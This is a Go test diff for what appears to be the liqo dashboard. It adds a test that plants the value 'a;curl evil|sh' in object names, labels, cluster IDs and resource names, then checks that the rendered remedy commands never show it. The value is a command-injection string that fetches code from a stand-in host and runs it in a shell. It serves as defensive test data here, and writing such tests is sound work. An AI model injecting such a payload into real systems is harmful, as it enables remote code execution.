@@ -21,6 +21,12 @@ import (
 	"testing"
 	"time"
 
+	corev1 "k8s.io/api/core/v1"
+	"k8s.io/apimachinery/pkg/api/meta"
+	"k8s.io/apimachinery/pkg/api/resource"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+
+	"github.com/liqo-go/liqo/api"
 	"github.com/liqo-go/liqo/api/scheme"
 	"github.com/liqo-go/liqo/bundle"
 	"github.com/liqo-go/liqo/view"
@@ -136,6 +142,57 @@ func TestArchiveSaysWhatIsMissing(t *testing.T) {
 	}
 	if len(got.Pods.Items) == 0 || !strings.Contains(got.Stale, "not have all of: pods.") {
 		t.Errorf("%d pods, %q", len(got.Pods.Items), got.Stale)
+	}
+}
+
+// TestAttackDashboardArchiveRemedies: somebody sends an archive with objects whose names, namespaces, labels, cluster IDs
+// and resources are commands of a shell, in the hope that a remedy with one is typed.
+//
+// Outcome: the pages show none of them, and say how many objects are left out.
+func TestAttackDashboardArchiveRemedies(t *testing.T) {
+	const attack = "a;curl evil|sh"
+	s := recorded(t)
+	for _, list := range s.Lists() {
+		if meta.LenList(list) == 0 {
+			continue
+		}
+		for _, plant := range []func(view.Object){
+			func(o view.Object) { o.SetName(attack) },
+			func(o view.Object) { o.SetNamespace(attack) },
+			func(o view.Object) { o.SetLabels(map[string]string{api.LabelRemoteClusterID: attack}) },
+			func(o view.Object) { o.SetLabels(map[string]string{attack: "x"}) },
+		} {
+			o := items(list)[0].DeepCopyObject().(view.Object)
+			plant(o)
+			s.Add(o)
+		}
+	}
+	for _, o := range []view.Object{s.ForeignClusters.Items[0].DeepCopy(), s.Tenants.Items[0].DeepCopy(), s.Identities.Items[0].DeepCopy(),
+		s.Slices.Items[0].DeepCopy(), s.VirtualNodes.Items[0].DeepCopy()} {
+		id := reflect.ValueOf(o).Elem().FieldByName("Spec")
+		for _, field := range []string{"ClusterID", "ProviderClusterID"} {
+			if f := id.FieldByName(field); f.IsValid() {
+				f.SetString(attack)
+			}
+		}
+		o.SetName("odd")
+		s.Add(o)
+	}
+	hungry := corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: "hungry"}, Spec: corev1.PodSpec{Containers: []corev1.Container{{
+		Resources: corev1.ResourceRequirements{Requests: corev1.ResourceList{attack: resource.MustParse("9")}}}}},
+		Status: corev1.PodStatus{Conditions: []corev1.PodCondition{{Type: corev1.PodScheduled, Status: "False", Message: "Insufficient " + attack}}}}
+	s.Add(&hungry)
+	s.VirtualNodes.Items[0].Spec.ResourceQuota.Hard[attack] = resource.MustParse("1")
+	got := ofArchive(t, localOnly(), objectsOf(t, s)).Snapshot()
+	for _, want := range []string{"Left out are objects", "5 foreignclusters.core.liqo.io", "4 pods", "5 virtualnodes.offloading.liqo.io"} {
+		if !strings.Contains(got.Stale, want) {
+			t.Errorf("%q lacks %q", got.Stale, want)
+		}
+	}
+	for _, command := range regexp.MustCompile(`<code>[^<]*|&#39;liqoctl [^<]*`).FindAllString(drawn(t, got), -1) {
+		if strings.Contains(command, "curl") {
+			t.Error(command)
+		}
 	}
 }
 
